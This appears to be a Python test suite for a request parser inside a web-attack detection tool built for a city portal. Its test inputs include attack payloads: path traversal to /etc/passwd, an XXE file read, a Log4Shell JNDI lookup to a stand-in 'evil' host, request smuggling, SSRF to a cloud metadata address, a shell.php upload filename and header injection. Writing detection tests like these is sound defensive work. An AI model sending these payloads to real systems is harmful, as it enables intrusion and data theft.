from __future__ import annotations

import json

from hypothesis import given, settings
from hypothesis import strategies as st

from citywatch.detect.portal.request import (
    MAX_PARAMS,
    MAX_VALUE,
    Param,
    ParsedRequest,
    parse_request,
    path_template,
)
from citywatch.model import HttpRequest


def _req(
    uri: str = "/",
    *,
    method: str = "GET",
    body: str = "",
    headers: tuple[tuple[str, str], ...] = (),
    version: str = "HTTP/1.1",
    user_agent: str | None = None,
    referrer: str | None = None,
) -> HttpRequest:
    return HttpRequest(
        method=method,
        uri=uri,
        version=version,
        headers=headers,
        body=body,
        user_agent=user_agent,
        referrer=referrer,
    )


def _params(parsed: ParsedRequest, location: str | None = None) -> dict[str, str]:
    return {p.name: p.value for p in parsed.params if location is None or p.location == location}


def test_query_string_is_decoded_with_plus_and_kept_raw() -> None:
    parsed = parse_request(_req("/search?q=drop-off+point&district=%C3%95un&empty=&flag"))
    assert _params(parsed) == {"q": "drop-off point", "district": "Õun", "empty": "", "flag": ""}
    raw = {p.name: p.raw for p in parsed.params}
    assert raw["district"] == "%C3%95un"
    assert all(p.location == "query" for p in parsed.params)
    assert parsed.anomalies == ()


def test_paths_are_normalised_and_templated() -> None:
    parsed = parse_request(_req("/Tax/./returns//123/../456/?x=1"))
    assert parsed.path == "/Tax/./returns//123/../456/"
    assert parsed.norm_path == "/Tax/returns/456/"
    assert parsed.template == "/Tax/returns/{id}/"
    encoded = parse_request(_req("/files/..%2f..%2fetc%2fpasswd"))
    assert encoded.decoded_path == "/files/../../etc/passwd"
    assert encoded.norm_path == "/etc/passwd"
    absolute = parse_request(_req("https://portal.example/a/b?c=d"))
    assert (absolute.path, _params(absolute)) == ("/a/b", {"c": "d"})


def test_path_template_collapses_ids_uuids_and_tokens() -> None:
    assert path_template("/tax/returns/123") == "/tax/returns/{id}"
    assert path_template("/a/0f8fad5b-d9cb-469f-a165-70867728950e/b") == "/a/{uuid}/b"
    assert path_template("/dl/9f86d081884c7d659a2feaa0c55ad015") == "/dl/{token}"
    assert path_template("/reset/eyJhbGciOiJIUzI1NiJ9xQ3") == "/reset/{token}"
    assert path_template("/docs/annual-report-2025-final") == "/docs/annual-report-2025-final"
    assert path_template("/parking/zones") == "/parking/zones"
    assert path_template("/tax/returns/2024-000123/pdf") == "/tax/returns/{id}/pdf"
    assert path_template("/invoices/INV-20931") == "/invoices/{id}"
    for kept in ("/api/v2/x", "/auth/2fa", "/topics/covid19", "/help/html5"):
        assert path_template(kept) == kept


def test_collapsed_path_ids_are_path_parameters() -> None:
    parsed = parse_request(_req("/tax/returns/2024-000123/files/77?x=1"))
    assert parsed.template == "/tax/returns/{id}/files/{id}"
    assert [(p.location, p.name, p.value) for p in parsed.params] == [
        ("path", "{id}", "2024-000123"),
        ("path", "{id}2", "77"),
        ("query", "x", "1"),
    ]


def test_a_path_id_keeps_the_segment_as_sent_when_the_paths_line_up() -> None:
    full_width = "%EF%BC%90%EF%BC%96%EF%BC%96"  # ０６６
    parsed = parse_request(_req(f"/tax/returns/2024-{full_width}/files/%37%37"))
    assert [(p.raw, p.value) for p in parsed.params] == [
        (f"2024-{full_width}", "2024-066"),
        ("%37%37", "77"),
    ]
    # dot segments resolved: the raw path no longer lines up, the id is its normal form
    parsed = parse_request(_req("/x/../tax/returns/%31%32"))
    assert [(p.raw, p.value) for p in parsed.params] == [("12", "12")]


def test_json_body_is_flattened_with_dotted_names_and_arrays() -> None:
    body = json.dumps(
        {
            "user": {"name": "O'Brien", "age": 42, "tags": ["a", "b"]},
            "ok": True,
            "none": None,
            "items": [{"id": 1}],
            "password": {"$ne": None},
        }
    )
    parsed = parse_request(
        _req(
            "/api/profile",
            method="POST",
            body=body,
            headers=(("Content-Type", "application/json"),),
        )
    )
    pairs = [(p.name, p.value) for p in parsed.params if p.location == "body"]
    assert pairs == [
        ("user.name", "O'Brien"),
        ("user.age", "42"),
        ("user.tags[]", "a"),
        ("user.tags[]", "b"),
        ("ok", "true"),
        ("none", ""),
        ("items[].id", "1"),
        ("password.$ne", ""),
    ]
    assert parsed.content_type == "application/json"


def test_bad_json_is_one_body_param_and_an_anomaly() -> None:
    parsed = parse_request(
        _req("/api", method="POST", body='{"a": ', headers=(("Content-Type", "application/json"),))
    )
    assert _params(parsed, "body") == {"body": '{"a": '}
    assert "bad-json" in parsed.anomalies


def test_form_body_and_sniffed_bodies() -> None:
    form = parse_request(
        _req(
            "/login",
            method="POST",
            body="username=%C3%95un&password=a%26b",
            headers=(("Content-Type", "application/x-www-form-urlencoded; charset=utf-8"),),
        )
    )
    assert _params(form, "body") == {"username": "Õun", "password": "a&b"}
    sniffed = parse_request(_req("/login", method="POST", body="username=mari"))
    assert _params(sniffed, "body") == {"username": "mari"}
    assert _params(parse_request(_req("/api", method="POST", body='{"x": "y"}'))) == {"x": "y"}
    xml = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    assert _params(parse_request(_req("/soap", method="POST", body=xml))) == {"body": xml}


def test_multipart_parts_and_file_names() -> None:
    body = (
        "--XyZ\r\n"
        'Content-Disposition: form-data; name="title"\r\n\r\n'
        "Pothole on Main St\r\n"
        "--XyZ\r\n"
        'Content-Disposition: form-data; name="photo"; filename="../../shell.php"\r\n'
        "Content-Type: image/jpeg\r\n\r\n"
        "JFIF....\r\n"
        "--XyZ--\r\n"
    )
    parsed = parse_request(
        _req(
            "/reports",
            method="POST",
            body=body,
            headers=(("Host", "p"), ("Content-Type", 'multipart/form-data; boundary="XyZ"')),
        )
    )
    assert _params(parsed, "body") == {
        "title": "Pothole on Main St",
        "photo.filename": "../../shell.php",
        "photo": "JFIF....",
    }
    assert parsed.anomalies == ()
    broken = parse_request(
        _req("/r", method="POST", body="x", headers=(("Content-Type", "multipart/form-data"),))
    )
    assert "bad-multipart" in broken.anomalies


def test_cookies_and_chosen_headers_are_params() -> None:
    parsed = parse_request(
        _req(
            "/",
            headers=(
                ("Host", "portal.example"),
                ("User-Agent", "Mozilla/5.0"),
                ("Accept-Language", "et,en;q=0.8"),
                ("Cookie", "session=abc; theme=dark%20mode"),
                ("Authorization", "Bearer " + "x" * 400),
                ("X-Custom", "y" * 300),
                ("X-Trace", "${jndi:ldap://evil/a}"),
            ),
        )
    )
    assert _params(parsed, "cookie") == {"session": "abc", "theme": "dark mode"}
    headers = _params(parsed, "header")
    assert set(headers) == {"Host", "User-Agent", "X-Custom", "X-Trace"}


def test_access_log_agent_and_referrer_become_header_params() -> None:
    parsed = parse_request(_req("/", user_agent="sqlmap/1.7", referrer="-"))
    assert _params(parsed, "header") == {"User-Agent": "sqlmap/1.7"}


def test_protocol_anomalies() -> None:
    parsed = parse_request(
        _req(
            "/a%zz/b?x=%252e%252e%252f&y=%c0%af&z=a%00b",
            method="TRACK",
            version="HTTP/9",
            headers=(
                ("Content-Length", "5"),
                ("Content-Length", "7"),
                ("Transfer-Encoding", "xchunked"),
                ("X-Bad", "a\r\nSet-Cookie: x=y"),
            ),
        )
    )
    assert set(parsed.anomalies) == {
        "unknown-method",
        "bad-version",
        "bad-url-encoding",
        "multiple-url-encoding",
        "overlong-utf8",
        "nul-byte",
        "duplicate-content-length",
        "te-and-cl",
        "bad-transfer-encoding",
        "header-injection",
    }
    assert _params(parsed, "query") == {"x": "../", "y": "/", "z": "a\x00b"}


def test_benign_request_has_no_anomalies() -> None:
    parsed = parse_request(
        _req(
            "/api/v1/permits?page=2&sort=-date&q=50%25+off",
            headers=(("Host", "p"), ("Content-Length", "12"), ("Content-Type", "application/json")),
            method="POST",
            body='{"a": "<3"}',
        )
    )
    assert parsed.anomalies == ()
    assert _params(parsed)["q"] == "50% off"


def test_limits_cap_params_and_values() -> None:
    many = "&".join(f"p{i}=v" for i in range(MAX_PARAMS + 50))
    parsed = parse_request(_req("/?" + many))
    assert len(parsed.params) == MAX_PARAMS
    assert "too-many-params" in parsed.anomalies
    long = parse_request(_req("/?v=" + "a" * (MAX_VALUE * 3)))
    assert len(long.params[0].value) == MAX_VALUE
    assert "value-too-long" in long.anomalies
    huge = parse_request(_req("/", method="POST", body="a=" + "b" * 200_000))
    assert "body-too-large" in huge.anomalies


def test_same_request_object_is_parsed_once() -> None:
    req = _req("/a?b=c")
    first = parse_request(req)
    assert parse_request(req) is first
    other = _req("/a?b=c")
    assert parse_request(other) is not first
    assert parse_request(other) == first


def test_params_are_structs() -> None:
    param = parse_request(_req("/?a=1")).params[0]
    assert param == Param("query", "a", "1", "1")


@settings(max_examples=300, deadline=None)
@given(
    method=st.sampled_from(["GET", "POST", "PUT", "X", "get"]),
    uri=st.text(max_size=200),
    body=st.text(max_size=300),
    ctype=st.sampled_from(
        [
            "",
            "application/json",
            "multipart/form-data; boundary=b",
            "text/xml",
            "application/x-www-form-urlencoded",
        ]
    ),
    headers=st.lists(st.tuples(st.text(max_size=20), st.text(max_size=50)), max_size=5),
)
def test_arbitrary_requests_parse_without_error(
    method: str, uri: str, body: str, ctype: str, headers: list[tuple[str, str]]
) -> None:
    hdrs = (*headers, ("Content-Type", ctype))
    parsed = parse_request(_req(uri or "/", method=method, body=body, headers=hdrs))
    assert len(parsed.params) <= MAX_PARAMS
    assert parsed.norm_path.startswith("/") or parsed.norm_path == ""


def test_header_and_framing_anomalies() -> None:
    cases = {
        "header-name-whitespace": _req(headers=(("Host", "p"), ("Transfer-Encoding ", "chunked"))),
        "duplicate-host": _req(headers=(("Host", "p"), ("Host", "evil.example"))),
        "h2c-upgrade": _req(headers=(("Host", "p"), ("Upgrade", "h2c"))),
        "smuggled-request": _req(
            method="POST",
            headers=(("Host", "p"), ("Content-Type", "application/x-www-form-urlencoded")),
            body="a=b\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n",
        ),
        "absolute-uri": _req("http://169.254.169.254/latest/meta-data/", headers=(("Host", "p"),)),
        "missing-host": _req(headers=(("User-Agent", "curl/8.5.0"),)),
        "range-abuse": _req(headers=(("Host", "p"), ("Range", "bytes=" + ",".join(["5-0"] * 20)))),
        "hop-by-hop-abuse": _req(headers=(("Host", "p"), ("Connection", "close, Authorization"))),
        "method-override": _req(headers=(("Host", "p"), ("X-HTTP-Method-Override", "DELETE"))),
        "unusual-charset": _req(
            method="POST",
            headers=(
                ("Host", "p"),
                ("Content-Type", "application/x-www-form-urlencoded; charset=ibm037"),
            ),
            body="%A4%A2=%81",
        ),
        "header-injection": _req(headers=(("Host", "p"), ("X-Custom", "a\x01b"))),
    }
    for code, req in cases.items():
        assert code in parse_request(req).anomalies, code


def test_routine_headers_raise_no_anomaly_and_credentials_stay_out() -> None:
    parsed = parse_request(
        _req(
            headers=(
                ("Host", "portal.aldmere.city:443"),
                ("Connection", "keep-alive, Upgrade"),
                ("Upgrade", "websocket"),
                ("Range", "bytes=0-1023"),
                ("Content-Type", "text/plain; charset=UTF-8"),
                ("Authorization", "Bearer " + "x" * 400),
                ("Accept-Language", "hr-HR,hr;q=0.9"),
                ("Sec-Fetch-Mode", "navigate"),
                ("X-Auth-Token", "rO0ABXNy"),
            ),
            version="HTTP/1.1",
        )
    )
    assert parsed.anomalies == ()
    names = {p.name for p in parsed.params}
    assert "Authorization" not in names
    assert "Accept-Language" not in names
    assert {"Host", "X-Auth-Token", "Range", "Upgrade", "Connection"} <= names
    lookup = parse_request(_req(headers=(("Host", "p"), ("Authorization", "Bearer ${jndi:x}"))))
    assert "Authorization" in {p.name for p in lookup.params}
